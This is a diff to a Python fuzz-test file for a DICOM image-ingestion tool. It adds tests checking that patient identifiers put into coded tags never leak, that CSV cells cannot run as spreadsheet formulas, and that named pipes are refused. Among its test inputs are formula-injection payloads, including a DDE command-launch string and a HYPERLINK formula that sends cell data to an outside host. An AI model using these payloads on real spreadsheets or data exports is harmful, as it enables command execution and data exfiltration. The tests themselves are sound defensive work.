@@ -11,7 +11,13 @@ invariants the README promises are checked:
 * no traceback and no "unexpected" failure: each bad file is a named reject;
 * the exit status is the documented one (0: something was ingested);
 * no value of a free-text tag (ImageComments, SeriesDescription, StudyDescription,
-  PatientName, PatientID) reaches any output file.
+  PatientName, PatientID) reaches any output file, nor a name and record number typed into a
+  coded tag (Modality, BodyPartExamined, ViewPosition, PhotometricInterpretation, Manufacturer,
+  ManufacturerModelName): those carry the marker FZPHQ;
+* no cell of any CSV written starts like a formula a spreadsheet would run (header values such
+  as ``=HYPERLINK(...)`` or ``@SUM(A1)``, file names starting with ``=``, ``@`` or holding a CR);
+* a FIFO in place of any file the run reads or writes beside its inputs (the cache's manifest,
+  rejects, cache.json, lock and parts; score's output and side files) is refused, never waited on.
 
 The CLI runs in a child process under a time and address-space limit (a hang or a memory
 blow-up is a failed test) with two workers, so a decoder that crashes its process is
@@ -85,12 +91,18 @@ HOSTILE_NUMBERS = {"Rows": [0, 1, 2, 65535, 16385], "Columns": [0, 1, 65535, 163
                    "BitsAllocated": [0, 1, 7, 12, 32], "BitsStored": [0, 17, 40, 1],
                    "HighBit": [0, 40], "PixelRepresentation": [1, 2], "SamplesPerPixel": [0, 3],
                    "PlanarConfiguration": [1]}
+PHI_LONG = "DOE^FZPHQ MRN 84736251"  # a name and MRN typed into a coded tag: longer than CS allows
+PHI_SHORT = "FZPHQ DOE"  # a well-formed CS value that is no term of the tag
+FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1)', "=cmd|' /C calc'!A0", "@SUM(A1)", "+A1-1", "-2+3", "=1+2"]
 HOSTILE_TEXT = {
-    "PhotometricInterpretation": ["", "RGB", "PALETTE COLOR", "MONOCHROME3", "YBR_FULL"],
+    "PhotometricInterpretation": ["", "RGB", "PALETTE COLOR", "MONOCHROME3", "YBR_FULL", PHI_LONG, PHI_SHORT],
     "WindowCenter": ["nan", "inf", "-inf", "1e308", "abc", ""], "WindowWidth": ["nan", "inf", "0", "-5", "1e-300"],
     "RescaleSlope": ["nan", "inf", "0", "1e308", "abc"], "RescaleIntercept": ["nan", "-inf", "1e308"],
-    "VOILUTFunction": ["SIGMOID", "BOGUS", "LINEAR_EXACT"], "Modality": ["CT", "", "DX\\CR"],
-    "BodyPartExamined": ["KNEE", "", "CHEST\\KNEE"], "ViewPosition": ["LL", "", "PA\\LL"],
+    "VOILUTFunction": ["SIGMOID", "BOGUS", "LINEAR_EXACT", PHI_SHORT],
+    "Modality": ["CT", "", "DX\\CR", PHI_LONG, PHI_SHORT, "=1+2"],
+    "BodyPartExamined": ["KNEE", "", "CHEST\\KNEE", PHI_LONG, PHI_SHORT, "@SUM(A1)"],
+    "ViewPosition": ["LL", "", "PA\\LL", PHI_LONG, PHI_SHORT, *FORMULAS[:2]],
+    "Manufacturer": [PHI_LONG, *FORMULAS], "ManufacturerModelName": [PHI_LONG, "@CMD", "-2+3"],
     "PatientAge": ["999Y", "abc", "-01Y"], "PixelSpacing": ["0\\0", "nan\\nan", "abc"],
     "PresentationLUTShape": ["INVERSE", "BOGUS"], "NumberOfFrames": ["0", "2", "-1", "abc"],
     "PresentationIntentType": ["FOR PROCESSING"], "PatientSpeciesDescription": ["CANINE"],
@@ -152,9 +164,25 @@ def _bogus_lut(ds: Dataset, rng: random.Random) -> str:
     return f"{seq} descriptor={descriptor} n={len(data)}"
 
 
+CODED_TAGS = ("Modality", "BodyPartExamined", "ViewPosition", "PhotometricInterpretation", "Manufacturer",
+              "ManufacturerModelName")
+
+
+def _coded_tag_hostile(ds: Dataset, rng: random.Random) -> str:
+    """A name and MRN, or a spreadsheet formula, typed into a coded tag. A bare name (PHI_SHORT)
+    only into the CS tags: in Manufacturer (LO) nothing tells it from a company's name."""
+    kw = rng.choice(CODED_TAGS)
+    value = rng.choice([PHI_LONG, *FORMULAS] + ([PHI_SHORT] if kw not in ("Manufacturer", "ManufacturerModelName")
+                                                 else []))
+    setattr(ds, kw, value)
+    return f"{kw}={value!r}"
+
+
 HEADER_MUTATIONS: tuple[Callable[[Dataset, random.Random], str], ...] = (
     _set_number, _set_text, _set_text, _excluded_term_in_free_text, _delete, _pixel_length,
-    _lying_syntax, _bogus_lut)
+    _lying_syntax, _bogus_lut, _coded_tag_hostile)
+# File names a spreadsheet would run, and a carriage return (the csv writer left it unquoted)
+HOSTILE_NAMES = ("=1+2.dcm", "@SUM(A1).dcm", "+A1-1.dcm", "-2+3.dcm", "a\rb.dcm", "'quoted.dcm")
 
 
 # ---------------------------------------------------------------- byte mutations
@@ -272,6 +300,8 @@ def fuzz(request, tmp_path_factory) -> FuzzRun:
         (inputs / case.name).write_bytes(case.data)
     # one untouched file, so "something was ingested" (exit 0) is the documented outcome
     save(_seed_dataset(random.Random(0), 99999, 12, "MONOCHROME2", {}), inputs / "control.dcm")
+    for k, name in enumerate(HOSTILE_NAMES):  # valid files (each its own image) under hostile names
+        save(_seed_dataset(random.Random(k + 1), 99990 + k, 12, "MONOCHROME2", {}), inputs / name)
     cache = root / "cache"
     args = ["-m", "fibrosis.cli.main", "ingest", str(inputs), "--cache", str(cache), "--workers", "2",
             "--no-progress", "--set", "ingest.image_size=32", "--set", "ingest.min_side=1",
@@ -307,10 +337,74 @@ def test_fuzz_every_input_exactly_once(fuzz):
 
 def test_fuzz_no_free_text_in_any_output(fuzz):
     # the markers every free-text value of every case carries (_seed_dataset), control.dcm's too
-    marker = re.compile(rb"FZ(?:ID|NM|IC|SD|ST)[0-9]{4,5}Q")
+    marker = re.compile(rb"FZ(?:ID|NM|IC|SD|ST)[0-9]{4,5}Q|FZPHQ|84736251")
     leaks = [(f.name, m.decode()) for f in sorted(p for p in fuzz.cache.rglob("*") if p.is_file())
              for m in marker.findall(f.read_bytes())]
     assert not leaks, leaks[:20]
+
+
+def test_fuzz_no_cell_a_spreadsheet_would_run(fuzz):
+    from fibrosis.io import FORMULA_START, read_csv
+
+    number = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+    for f in sorted(fuzz.cache.rglob("*.csv")):
+        with open(f, newline="", encoding="utf-8") as fh:
+            cells = [c for row in csv.reader(fh) for c in row]
+        runs = [c for c in cells if c.startswith(FORMULA_START) and not number.fullmatch(c)]
+        assert not runs, (f.name, runs[:5])
+    # read back through our own reader, the values are what the files hold: the hostile names are there
+    listed = {Path(r["path"]).name for name in ("manifest.csv", "rejects.csv") for r in read_csv(fuzz.cache / name)}
+    assert set(HOSTILE_NAMES) <= listed
+
+
+# The files a run reads or writes beside its inputs, and what it answers when one is a FIFO.
+CACHE_SIDE_FILES = ("manifest.csv", "rejects.csv", "cache.json", ".ingest.lock", "parts/shard-000000.csv")
+
+
+def test_fuzz_a_fifo_among_the_cache_files_is_refused(fuzz, tmp_path):
+    import os
+    import shutil
+
+    for name in CACHE_SIDE_FILES:
+        cache = tmp_path / name.replace("/", "_")
+        shutil.copytree(fuzz.cache, cache)
+        (cache / name).unlink()
+        os.mkfifo(cache / name)
+        res = run_child(["-m", "fibrosis.cli.main", "ingest", str(fuzz.inputs), "--cache", str(cache), "--workers", "2",
+                         "--no-progress", "--set", "ingest.image_size=32", "--set", "ingest.min_side=1",
+                         "--set", "ingest.shard_size=128"], timeout=90, mem_gb=6)  # a hang is a TimeoutExpired
+        assert res.returncode == 2 and "Traceback" not in res.stderr, (name, res.stderr[-2000:])
+        assert f"{name}: not a regular file: a FIFO (named pipe)" in res.stderr, (name, res.stderr[-2000:])
+
+
+def test_fuzz_a_fifo_among_the_score_files_is_refused(fuzz, tmp_path, monkeypatch):
+    import os
+    import signal
+
+    from fibrosis.config import IngestConfig
+    from fibrosis.score.run import score
+    from test_score import make_checkpoint
+
+    monkeypatch.setenv("FIBROSIS_SALT", "fuzz")
+    ckpt = make_checkpoint(tmp_path / "run" / "best.pt", IngestConfig(image_size=32, min_side=1))
+    listing = tmp_path / "some.csv"
+    listing.write_text("path\n" + "".join(f"{fuzz.inputs / c.name}\n" for c in fuzz.cases[:40]))
+    for side in ("scores.csv", "scores.meta.csv", "scores.studies.csv"):
+        out = tmp_path / side.replace(".", "_") / "scores.csv"
+        out.parent.mkdir()
+        os.mkfifo(out.parent / side)
+
+        def hung(*_):
+            raise TimeoutError(f"score blocked on the FIFO at {side}")
+
+        old = signal.signal(signal.SIGALRM, hung)
+        signal.alarm(60)
+        try:
+            with pytest.raises(ValueError, match=rf"{side}: not a regular file: a FIFO"):
+                score(ckpt.parent, listing, out, device="cpu", progress=False, workers=1)
+        finally:
+            signal.alarm(0)
+            signal.signal(signal.SIGALRM, old)
 
 
 def test_generator_is_seeded_and_mutates_every_seed_syntax(tmp_path):
